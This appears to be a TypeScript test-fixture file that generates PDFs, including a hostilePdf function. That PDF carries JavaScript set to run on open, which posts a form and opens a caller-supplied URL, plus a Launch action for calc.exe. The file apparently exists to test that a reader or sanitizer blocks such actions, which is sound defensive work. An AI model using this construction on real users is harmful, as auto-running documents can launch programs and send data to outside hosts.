/** A PDF of the given objects (the first is the catalog), with a right cross-reference table (ISO 32000 §7.5). */
function assemble(objects: string[]): Uint8Array {
  let body = "%PDF-1.7\n";
  const offsets = objects.map((object, index) => {
    const offset = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  const size = objects.length + 1;
  const trailer = `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.from(`${body}xref\n0 ${size}\n0000000000 65535 f \n${table}${trailer}`, "latin1");
}

const FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>";
const page = (contents: number, font: number, more = "") =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${contents} 0 R ` +
  `/Resources << /Font << /F1 ${font} 0 R >> >> ${more} >>`;
const stream = (text: string) => {
  const content = `BT /F1 32 Tf 60 700 Td (${text}) Tj ET`;
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
};

const linesStream = (lines: string[]) => {
  const content = `BT /F1 20 Tf 30 TL 60 700 Td ${lines.map((line) => `(${line}) Tj T*`).join(" ")} ET`;
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
};

/** As many pages as asked for, all alike. */
export function longPdf(pages: number): Uint8Array {
  const ids = Array.from({ length: pages }, (_, index) => index + 5);
  return assemble([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Count ${pages} /Kids [${ids.map((id) => `${id} 0 R`).join(" ")}] >>`,
    stream("one of many"),
    FONT,
    ...ids.map(() => page(3, 4)),
  ]);
}

/** A page for each list of lines; text of Latin-1 without brackets. */
export function pagesPdf(...pages: string[][]): Uint8Array {
  const first = 4;
  const ids = pages.map((_, index) => first + 2 * index);
  return assemble([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Count ${pages.length} /Kids [${ids.map((id) => `${id} 0 R`).join(" ")}] >>`,
    FONT,
    ...pages.flatMap((lines, index) => [page(first + 2 * index + 1, 3), linesStream(lines)]),
  ]);
}

/** Wants to run scripts when it opens, to start a program, to send its reader elsewhere and to post a form. */
export function hostilePdf(url: string): Uint8Array {
  const script = `(app.alert\\("owned"\\); app.launchURL\\("${url}/script"\\); this.submitForm\\("${url}/form"\\);)`;
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${url}/link) >> >>`;
  const widget =
    "<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 595 842] " +
    `/AA << /PO << /S /JavaScript /JS ${script} >> /E << /S /JavaScript /JS ${script} >> >> >>`;
  return assemble([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /AcroForm << /Fields [8 0 R] >> ` +
      `/Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>`,
    "<< /Type /Pages /Count 1 /Kids [5 0 R] >>",
    stream("a harmless report"),
    FONT,
    page(3, 4, "/Annots [7 0 R 8 0 R] /AA << /O 9 0 R >>"),
    `<< /S /JavaScript /JS ${script} /Next 9 0 R >>`,
    link,
    widget,
    `<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> /Next << /S /URI /URI (${url}/next) >> >>`,
  ]);
}
